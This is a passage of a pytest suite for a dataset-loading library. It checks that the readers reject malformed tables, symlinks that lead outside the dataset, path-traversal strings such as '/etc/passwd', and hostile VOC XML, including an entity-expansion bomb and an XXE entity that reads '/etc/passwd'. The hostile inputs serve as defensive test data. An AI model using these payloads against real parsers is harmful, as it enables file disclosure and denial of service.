        put(tmp_path / name / "processed" / file, pickle.dumps(Marks(tmp_path / "mark")))
    with refused("DATA-HASH", 4, "processed", "rm -r"):
        read("torchvision", tmp_path, {"dataset": name, "parts": {"train": {"train": True}}})


@pytest.mark.parametrize("name", ["ImageNet", "FakeData", "SBU", "os", "__doc__", "VisionDataset", "utils"])
def test_f15_nothing_but_the_known_classes_is_called(tmp_path, refused, name):
    with refused("DATA-CARD", 3, name, "EuroSAT"):
        read("torchvision", tmp_path, {"dataset": name, "parts": {"train": {}}})


@pytest.mark.parametrize(
    "parts",
    [
        None,
        {},
        [],
        {"train": 3},
        {"train": {"download": True}},
        {"train": {"root": "/"}},
        {"train": {"loader": "x"}},
    ],
)
def test_f15_arguments_that_are_ours_to_give(tmp_path, refused, parts):
    with refused("DATA-CARD", 3, "parts"):
        read("torchvision", tmp_path, {"dataset": "EuroSAT", "parts": parts})


TORCHVISION = {
    "MNIST": {"train": True},
    "CIFAR10": {"train": True},
    "SVHN": {"split": "train"},
    "STL10": {"split": "train"},
    "DTD": {"split": "train"},
    "EuroSAT": {},
    "GTSRB": {"split": "train"},
    "Food101": {"split": "train"},
    "Flowers102": {"split": "train"},
    "StanfordCars": {"split": "train"},
    "OxfordIIITPet": {"split": "trainval"},
    "Caltech101": {},
    "Caltech256": {},
    "FGVCAircraft": {"split": "train"},
    "SUN397": {},
    "Country211": {"split": "train"},
    "RenderedSST2": {"split": "train"},
    "ImageFolder": {},
}


@pytest.mark.parametrize("name", TORCHVISION)
def test_f15_what_torchvision_does_not_find(tmp_path, refused, name):
    root = tmp_path / "data"
    root.mkdir()
    with refused("DATA-MISSING", 3, name):
        read("torchvision", root, {"dataset": name, "parts": {"train": TORCHVISION[name]}})
    assert not list(root.iterdir())


def test_f15_packages_that_are_missing(tmp_path, refused, monkeypatch):
    for name in ("scipy", "scipy.io"):
        monkeypatch.setitem(sys.modules, name, None)
    with refused("MODEL-LIBRARY", 3, "StanfordCars", "aniso[data]"):
        read("torchvision", tmp_path, {"dataset": "StanfordCars", "parts": {"train": {"split": "train"}}})


def test_f15_arguments_torchvision_does_not_know(tmp_path, refused):
    with refused("DATA-FORMAT", 3, "EuroSAT", "TypeError", "colour"):
        read("torchvision", tmp_path, {"dataset": "EuroSAT", "parts": {"train": {"colour": 3}}})


def test_f15_damaged_files_of_torchvision(tmp_path, refused):
    put(tmp_path / "food-101/meta/train.json", "{")
    (tmp_path / "food-101/images").mkdir()
    with refused("DATA-FORMAT", 3, "Food101", "JSONDecodeError"):
        read("torchvision", tmp_path, {"dataset": "Food101", "parts": {"train": {"split": "train"}}})
    for name in ("train-images-idx3", "train-labels-idx1", "t10k-images-idx3", "t10k-labels-idx1"):
        put(tmp_path / f"MNIST/raw/{name}-ubyte", b"abc")
    with refused("DATA-FORMAT", 3, "MNIST"):
        read("torchvision", tmp_path, {"dataset": "MNIST", "parts": {"train": {"train": True}}})


def test_f15_lists_of_torchvision_stay_inside(tmp_path, refused):
    put(tmp_path / "secret.jpg")
    root = tmp_path / "data"
    put(root / "food-101/meta/train.json", json.dumps({"a": ["../../../secret"]}))
    (root / "food-101/images").mkdir()
    with refused("DATA-PATH", 4, "../secret.jpg"):
        read("torchvision", root, {"dataset": "Food101", "parts": {"train": {"split": "train"}}})
    base = root / "fgvc-aircraft-2013b/data"
    put(base / "variants.txt", "747\n")
    put(base / "images_variant_train.txt", f"{tmp_path}/secret 747\n")
    with refused("DATA-PATH", 4, f"{tmp_path}/secret.jpg"):
        read("torchvision", root, {"dataset": "FGVCAircraft", "parts": {"train": {"split": "train"}}})


def test_f15_pictures_torchvision_would_miss_later(tmp_path, refused):
    put(tmp_path / "food-101/meta/train.json", json.dumps({"a": ["a/1", "a/2"]}))
    put(tmp_path / "food-101/images/a/1.jpg", JPEG)
    with refused("DATA-MISSING", 3, "food-101/images/a/2.jpg"):
        read("torchvision", tmp_path, {"dataset": "Food101", "parts": {"train": {"split": "train"}}})


def test_f15_labels_outside_of_the_classes(tmp_path, refused):
    put(tmp_path / "oxford-iiit-pet/images/Beagle_1.jpg", JPEG)
    put(tmp_path / "oxford-iiit-pet/annotations/test.txt", "Beagle_1 5 1 1\n")
    with refused("DATA-LABEL", 3, "OxfordIIITPet", "0 to 0"):
        read("torchvision", tmp_path, {"dataset": "OxfordIIITPet", "parts": {"test": {"split": "test"}}})


def test_f15_fetching_respects_offline(tmp_path, refused, monkeypatch):
    monkeypatch.setenv("ANISO_OFFLINE", "1")
    with refused("HUB-OFFLINE", 3, "EuroSAT"):
        fetch("torchvision", tmp_path, {"dataset": "EuroSAT", "parts": {"all": {}}})
    with refused("DATA-MISSING", 3, "no address"):
        fetch("folder", tmp_path, {})


def test_f15_what_cannot_be_fetched(tmp_path, refused, monkeypatch):
    for name in ("HF_HUB_OFFLINE", "ANISO_OFFLINE"):
        monkeypatch.delenv(name, raising=False)

    def broken(*_, **__):
        raise OSError("no route to host")

    monkeypatch.setattr(datasets.EuroSAT, "download", broken)
    with refused("DATA-MISSING", 3, "could not be fetched", "no route to host"):
        fetch("torchvision", tmp_path, {"dataset": "EuroSAT", "parts": {"all": {}}})


# F16: names and links


def test_f16_links_in_circles(tmp_path):
    put(tmp_path / "train/a/1.png")
    put(tmp_path / "train/b/deep/2.png")
    (tmp_path / "train/a/self").symlink_to(".")
    (tmp_path / "train/a/up").symlink_to("../..")
    (tmp_path / "train/b/deep/back").symlink_to("..")
    (tmp_path / "train/everything").symlink_to("..")
    with no_hang():
        reading = read("folder", tmp_path, {})
    assert reading.parts["train"].items.ids == ("train/a/1.png", "train/b/deep/2.png")
    assert reading.parts["train"].classes == ("a", "b")
    assert reading.notes[0].startswith(
        "links not followed, to folders already read: train/a/self, train/a/up"
    )


def test_f16_links_that_multiply(tmp_path):
    """Thirty folders, each twice in the one before: a billion ways through, each walked once."""
    for i in range(30):
        (tmp_path / f"x/{i}").mkdir(parents=True)
    for i in range(29):
        for name in ("left", "right"):
            (tmp_path / f"x/{i}/{name}").symlink_to(f"../{i + 1}")
    put(tmp_path / "x/29/1.png")
    with no_hang():
        assert len(read("folder", tmp_path, {}).parts["all"].codes) == 1


def test_f16_links_that_stay_inside_are_followed(tmp_path):
    root = tmp_path / "data"
    put(root / ".store/1.png")
    (root / "a").mkdir(parents=True)
    (root / "a/1.png").symlink_to(root / ".store/1.png")
    (root / "b").symlink_to(".store")
    (root / "a/gone.png").symlink_to("nowhere")
    (root / "a/loop.png").symlink_to("loop.png")
    (tmp_path / "link").symlink_to("data")
    for place in (root, tmp_path / "link"):  # the whole data set may be a link
        reading = read("folder", place, {})
        assert reading.parts["all"].items.ids == ("a/1.png", "b/1.png")
        assert "ignored files that are no images: a/gone.png, a/loop.png" in reading.notes


LEAVING = {
    "picture": lambda root, store: (root / "a/2.png").symlink_to(store / "1.png"),
    "class": lambda root, store: (root / "b").symlink_to(store),
    "folder in a class": lambda root, store: (root / "a/more").symlink_to("../../store"),
    "by a detour": lambda root, store: (root / "a/2.png").symlink_to("../../data/../store/1.png"),
}


@pytest.mark.parametrize("link", LEAVING.values(), ids=LEAVING)
def test_f16_links_that_lead_out_of_a_folder_task_are_refused(tmp_path, refused, link):
    put(tmp_path / "store/1.png")
    root = tmp_path / "data"
    put(root / "a/1.png")
    link(root, tmp_path / "store")
    with refused("DATA-PATH", 4, "leads out of the dataset", "links that stay inside"):
        read("folder", root, {})


def test_f16_a_part_that_is_a_link_out_of_the_task_is_refused(tmp_path, refused):
    put(tmp_path / "store/a/1.png")
    put(tmp_path / "data/test/a/2.png")
    (tmp_path / "data/train").symlink_to(tmp_path / "store")
    with refused("DATA-PATH", 4, "train"):
        read("folder", tmp_path / "data", {})


def test_f16_a_snapshot_of_the_hubs_cache_is_read(tmp_path):
    put(tmp_path / "blobs/0123")
    (tmp_path / "snapshots/main/a").mkdir(parents=True)
    (tmp_path / "snapshots/main/a/1.png").symlink_to("../../../blobs/0123")
    assert read("folder", tmp_path / "snapshots/main", {}).parts["all"].items.ids == ("a/1.png",)


def test_f16_links_that_lead_out_of_a_folder_of_unsorted_images_are_refused(tmp_path, refused):
    put(tmp_path / "store/1.png")
    put(tmp_path / "data/1.png")
    (tmp_path / "data/2.png").symlink_to("1.png")
    assert len(unlabelled_images(tmp_path / "data", ["a", "b"])[0]) == 2
    (tmp_path / "data/3.png").symlink_to(tmp_path / "store/1.png")
    with refused("DATA-PATH", 4, "3.png"):
        unlabelled_images(tmp_path / "data", ["a", "b"])


NAMES = [
    "with space",
    "new\nline",
    "🙂",
    "Ünï",
    "x" * 250,
    "a'b\"c",
    "-rf",
    "*?[",
    "%s{}",
    "tab\t",
    "\x1b[2J",
    "a\\b",
]


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_f16_any_name_a_file_system_allows(tmp_path, name):
    put(tmp_path / name / f"{name[:200]}.png")
    put(tmp_path / "other" / "1.png")
    part = read("folder", tmp_path, {}).parts["all"]
    assert set(part.classes) == {name, "other"}
    assert all(part.items.open(i).size == (4, 4) for i in range(2))


def test_f16_names_that_are_not_utf8(tmp_path):
    put(tmp_path / os.fsdecode(b"\xff\xfe") / "1.png")
    part = read("folder", tmp_path, {}).parts["all"]
    assert part.items.open(0).size == (4, 4)


def test_f16_names_that_differ_in_case_or_accents(tmp_path):
    for name in ("Dog", "dog", "cat", "caf\u00e9", "cafe\u0301"):
        put(tmp_path / name / "1.png")
    (note,) = read("folder", tmp_path, {}).notes
    assert note.startswith("classes that differ in case or accents only: ")
    assert "Dog / dog" in note


def test_f16_two_folders_for_one_part(tmp_path, refused):
    put(tmp_path / "val/a/1.png")
    put(tmp_path / "Validation/a/1.png")
    with refused("DATA-FORMAT", 3, "two folders for val", "Validation, val"):
        read("folder", tmp_path, {})


def test_f16_pipes_are_not_opened(tmp_path, refused):
    put(tmp_path / "a/1.png")
    os.mkfifo(tmp_path / "a/pipe.png")
    with no_hang():
        reading = read("folder", tmp_path, {})
    assert reading.notes == ("ignored files that are no images: a/pipe.png",)
    for kind, name in (("csv", "t.csv"), ("parquet", "train.parquet"), ("webdataset", "train.tar")):
        os.mkfifo(tmp_path / name)
        with no_hang(), pytest.raises(AnisoError) as caught:
            read(kind, tmp_path / name, {})
        assert caught.value.exit_code == 3
        assert recognise(tmp_path / name) is None


@pytest.mark.skipif(os.geteuid() == 0, reason="root may list anything")
def test_f16_folders_that_may_not_be_listed(tmp_path, refused):
    put(tmp_path / "a/1.png")
    (tmp_path / "a").chmod(0)
    try:
        with refused("DATA-FORMAT", 3, "cannot be listed"):
            read("folder", tmp_path, {})
    finally:
        (tmp_path / "a").chmod(0o700)


# paths that texts name

OUTSIDE = [
    "/etc/passwd",
    "../secret.png",
    "a/../../secret.png",
    "..",
    "C:\\x.png",
    "\\\\host\\x.png",
    "a\\..\\..\\x",
    "a\0b",
]


@pytest.mark.parametrize("path", OUTSIDE, ids=ascii)
def test_paths_in_texts_stay_below_the_root(tmp_path, refused, path):
    put(tmp_path / "secret.png")
    root = tmp_path / "data"
    put(root / "i/1.jpg", JPEG)
    put(root / "t.csv", f"path,label\n{path},x\n")
    put(root / "l.txt", f"{path} x\n")
    put(root / "s.json", json.dumps({"train": [[path, 0, "x"]]}))
    cub(root, path)
    for kind, settings in {
        "csv": {},
        "lists": {"images": "i", "parts": {"train": "l.txt"}},
        "coop": {"images": "i", "file": "s.json"},
        "cub": {"images": "cub"},
    }.items():
        if kind == "lists" and path[0] == "/":  # there it stands for the folder of pictures
            with refused("DATA-MISSING", 3, "i/etc/passwd"):
                read(kind, root, settings)
            continue
        with refused("DATA-PATH", 4, "leads out"):
            read(kind, root, settings)


@pytest.mark.parametrize("path", ["../x", "/etc"])
def test_settings_stay_below_the_root_too(tmp_path, refused, path):
    for kind, settings in (
        ("folder", {"parts": {"train": path}}),
        ("lists", {"images": path, "parts": {"train": "l.txt"}}),
        ("lists", {"images": "i", "parts": {"train": path}}),
        ("coop", {"images": path, "file": "s.json"}),
        ("coop", {"images": "i", "file": path}),
        ("cub", {"images": path}),
        ("voc", {"parts": {"train": path}}),
        ("voc", {"parts": {"train": "train"}, "year": path}),
    ):
        with refused("DATA-PATH", 4, "leads out"):
            read(kind, tmp_path, settings)


def test_links_may_not_lead_out(tmp_path, refused):
    put(tmp_path / "secret/1.png")
    root = tmp_path / "data"
    root.mkdir()
    (root / "link.png").symlink_to(tmp_path / "secret/1.png")
    (root / "folder").symlink_to(tmp_path / "secret")
    for path in ("link.png", "folder/1.png"):
        put(root / "t.csv", f"path,label\n{path},x\n")
        with refused("DATA-PATH", 4, "t.csv line 2", "links that stay below"):
            read("csv", root, {})
        put(root / "l.txt", f"{path} x\n")
        with refused("DATA-PATH", 4, "l.txt line 1"):
            read("lists", root, {"images": ".", "parts": {"train": "l.txt"}})
    # the folder of pictures itself is the user's to place
    reading = read(
        "lists", root, {"images": "folder", "parts": {"train": str(put(root / "m.txt", "1.png x").name)}}
    )
    assert reading.parts["train"].items.ids == ("folder/1.png",)


def test_missing_files_are_listed(tmp_path, refused):
    put(tmp_path / "0.png")
    put(tmp_path / "t.csv", "path,label\n" + "".join(f"{i}.png,x\n" for i in range(9)))
    with refused("DATA-MISSING", 3, "8 files", "1.png", "5.png", "3 more") as found:
        read("csv", tmp_path, {})
    assert "6.png" not in str(found.error)
    os.mkfifo(tmp_path / "1.png")
    (tmp_path / "2.png").mkdir()
    with no_hang(), refused("DATA-MISSING", 3, "8 files"):
        read("csv", tmp_path, {})


# tables as text


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"", "an empty line"),
        (b"a,b\n1,2\n", "a,b"),
        (b"path,label\n1.png\n", "line 2: 1 cells, not 2"),
        (b"path,label\n1.png,a,b\n", "line 2: 3 cells, not 2"),
        (b'path,label\n1.png,"a\n', "line"),
        (b"path,label\n1.png,\xff\n", "not UTF-8"),
        (b"path,label\n1.png," + b"x" * 200_000 + b"\n", "field larger"),
        (b"path,label,split\n1.png,a,\n", "no split"),
        (PNG, "UTF-8"),
    ],
)
def test_malformed_tables(tmp_path, refused, data, said):
    put(tmp_path / "1.png")
    put(tmp_path / "t.csv", data)
    with refused("DATA-FORMAT", 3, "t.csv", said):
        read("csv", tmp_path, {})


def test_several_tables(tmp_path, refused):
    for name in ("a.csv", "b.csv"):
        put(tmp_path / name, "path,label\n")
    with refused("DATA-FORMAT", 3, "a.csv, b.csv"):
        read("csv", tmp_path, {})


@FUZZ
@given(st.binary(max_size=200))
def test_any_table_gives_only_our_errors(tmp_path_factory, data):
    path = tmp_path_factory.getbasetemp() / "fuzz.csv"
    for start in (b"", b"path,label\n", b"path,label,split\n"):
        path.write_bytes(start + data)
        recognise(path)
        try:
            read("csv", path, {})
        except AnisoError as e:
            assert e.exit_code in (3, 4)


# the catalogue's layouts


def cub(root: Path, path: str = "001.A/1.jpg") -> None:
    put(root / "cub/images/001.A/1.jpg", JPEG)
    put(root / "cub/images.txt", f"1 {path}\n")
    put(root / "cub/classes.txt", "1 001.A\n")
    put(root / "cub/image_class_labels.txt", "1 1\n")
    put(root / "cub/train_test_split.txt", "1 1\n")


@pytest.mark.parametrize(
    ("file", "content", "said"),
    [
        ("image_class_labels.txt", "1 7\n", "line 1"),
        ("image_class_labels.txt", "2 1\n", "1 is missing or too many"),
        ("train_test_split.txt", "1 2\n", "line 1"),
        ("classes.txt", "1\n", "line 1"),
        ("images.txt", "1 001.A/1.jpg\n1 001.A/2.jpg\n", "occurs twice"),
    ],
)
def test_cub_tables_that_do_not_fit(tmp_path, refused, file, content, said):
    cub(tmp_path)
    put(tmp_path / "cub" / file, content)
    with refused("DATA-FORMAT", 3, file, said):
        read("cub", tmp_path, {"images": "cub"})


@pytest.mark.parametrize(
    ("content", "code", "said"),
    [
        ("[]", "DATA-FORMAT", "not an object"),
        ('{"train": 3}', "DATA-FORMAT", "train: 3"),
        ('{"train": [["1.jpg", 0]]}', "DATA-FORMAT", "train[0]"),
        ('{"train": [["1.jpg", "0", "a"]]}', "DATA-FORMAT", "train[0]"),
        ('{"train": [["1.jpg", -1, "a"]]}', "DATA-FORMAT", "train[0]"),
        ('{"train": [["1.jpg", 0, ""]]}', "DATA-FORMAT", "train[0]"),
        ('{"train": [["1.jpg", 0, "a"], ["2.jpg", 1, "a"]]}', "DATA-LABEL", "train[1]: 1 a"),
        ('{"train": [["1.jpg", 0, "a"]], "test": [["2.jpg", 0, "b"]]}', "DATA-LABEL", "test[0]: 0 b"),
        ('{"train": [["1.jpg", 0, "a"]], "test": [["2.jpg", 1, "b"]]}', "DATA-CLASS", "train lacks"),
        ('{"train": [["9.jpg", 0, "a"]]}', "DATA-MISSING", "9.jpg"),
        ('{"train": []}', "DATA-EMPTY", "train"),
        ('{"train": [["1.jpg", 0, NaN]]}', "DATA-FORMAT", "NaN"),
        ("[" * 100_000, "DATA-FORMAT", "nested"),
    ],
)
def test_coop_files_that_cannot_be(tmp_path, refused, content, code, said):
    put(tmp_path / "i/1.jpg", JPEG)
    put(tmp_path / "i/2.jpg", JPEG)
    put(tmp_path / "s.json", content)
    with refused(code, 3, said):
        read("coop", tmp_path, {"images": "i", "file": "s.json"})


@pytest.mark.parametrize(
    ("content", "code", "said"),
    [
        ("nolabel.jpg\n", "DATA-LABEL", "line 1"),
        ("\n\n", "DATA-EMPTY", "train"),
        ("a/9.jpg\n", "DATA-MISSING", "a/9.jpg"),
    ],
)
def test_lists_that_cannot_be(tmp_path, refused, content, code, said):
    put(tmp_path / "i/a/1.jpg", JPEG)
    put(tmp_path / "l.txt", content)
    with refused(code, 3, said):
        read("lists", tmp_path, {"images": "i", "parts": {"train": "l.txt"}})


def voc(root: Path, annotation: str | bytes) -> dict[str, object]:
    base = root / "VOCdevkit/VOC2007"
    put(base / "JPEGImages/1.jpg", JPEG)
    put(base / "Annotations/1.xml", annotation)
    put(base / "ImageSets/Main/train.txt", "1\n")
    return {"parts": {"train": "train"}, "year": 2007}


LAUGHS = "<!ENTITY a 'ha'>" + "".join(
    f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    "annotation",
    [
        f"<!DOCTYPE x [{LAUGHS}]><annotation>&i;</annotation>",
        "<!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/passwd'>]><annotation>&f;</annotation>",
        "<!doctype x><annotation/>",
        '<?xml version="1.0"?>\n<!DOCTYPE annotation SYSTEM "http://x/y.dtd"><annotation/>',
    ],
)
def test_annotations_that_declare_something(tmp_path, refused, annotation):
    settings = voc(tmp_path, annotation)
    with no_hang(), peak_below(20), refused("DATA-FORMAT", 4, "1.xml", "entities"):
        read("voc", tmp_path, settings)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32", "cp037"])
def test_annotations_in_disguise(tmp_path, encoding):
    text = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE x [{LAUGHS}]><annotation>&i;</annotation>'
    settings = voc(tmp_path, text.encode(encoding))
    with no_hang(), peak_below(20), pytest.raises(AnisoError) as caught:
        read("voc", tmp_path, settings)
    assert caught.value.code == "DATA-FORMAT"


BOX = "<bndbox><xmin>{}</xmin><ymin>1</ymin><xmax>3</xmax><ymax>3</ymax></bndbox>"
OBJECT = f"<annotation><object>{{}}{BOX}</object></annotation>"


@pytest.mark.parametrize(
    ("annotation", "said"),
    [
        ("<annotation", "1.xml"),
        ("", "1.xml"),
        (OBJECT.format("", 1), "without a name"),
        (OBJECT.format("<name>a</name>", 4), "a box of 4, 1, 3, 3"),
        (OBJECT.format("<name>a</name>", 0), "a box of 0"),
        (OBJECT.format("<name>a</name>", "x"), "a box of x"),
        (OBJECT.format("<name>a</name>", "inf"), "a box of inf"),
        (OBJECT.format("<name>a</name>", "nan"), "a box of nan"),
        ("<annotation><object><name>a</name></object></annotation>", "a box of"),
    ],
)
def test_annotations_that_cannot_be(tmp_path, refused, annotation, said):
    settings = voc(tmp_path, annotation)
    with refused("DATA-FORMAT", 3, "1.xml", said):
        read("voc", tmp_path, settings)


def test_annotations_without_objects(tmp_path, refused):
    settings = voc(tmp_path, "<annotation/>")
    with refused("DATA-EMPTY", 3, "train has no objects"):
        read("voc", tmp_path, settings)


# settings


@pytest.mark.parametrize(
    ("kind", "settings", "said"),
    [
        ("folder", {"part": {}}, "part"),
        ("folder", {"parts": {"train": 3}}, "parts"),
        ("folder", {"parts": {}}, "parts"),
        ("parquet", {"parts": "train"}, "parts"),
        ("parquet", {"image": 3}, "image"),
        ("csv", {"labels": "x"}, "labels"),
        ("webdataset", {"shards": "x"}, "shards"),
        ("lists", {}, "images"),
        ("lists", {"images": "x"}, "parts"),
        ("coop", {"images": "x"}, "file"),
        ("voc", {}, "parts"),
        ("voc", {"parts": {"train": "train"}, "difficult": "no"}, "difficult"),
        ("cub", {"parts": {}}, "parts"),
        ("nonsense", {}, "nonsense"),
    ],
)
def test_settings_that_nobody_understands(tmp_path, refused, kind, settings, said):
    table(tmp_path / "train.parquet", [PNG], ["a"])
    put(tmp_path / "t.csv", "path,label\n")
    with refused("DATA-CARD", 3, said, "card"):
        read(kind, tmp_path, settings)


def test_parts_that_are_not_there(tmp_path, refused):
    table(tmp_path / "train.parquet", [PNG], ["a"])
    with refused("DATA-MISSING", 3, "no part test", "train"):
        read("parquet", tmp_path, {"parts": ["train", "test"]})
    put(tmp_path / "a/x/1.png")
    with refused("DATA-MISSING", 3, "b/c"):
        read("folder", tmp_path, {"parts": {"train": "a", "test": "b/c"}})


def test_no_refusal_changes_anything(tmp_path):
    put(tmp_path / "train.tar", b"x" * 600)
    put(tmp_path / "train.parquet", b"x" * 600)
    put(tmp_path / "train.csv", b"x" * 600)
    before = contents(tmp_path)
    for kind in ("webdataset", "parquet", "csv", "folder"):
        with pytest.raises(AnisoError):
            read(kind, tmp_path, {})
    assert contents(tmp_path) == before
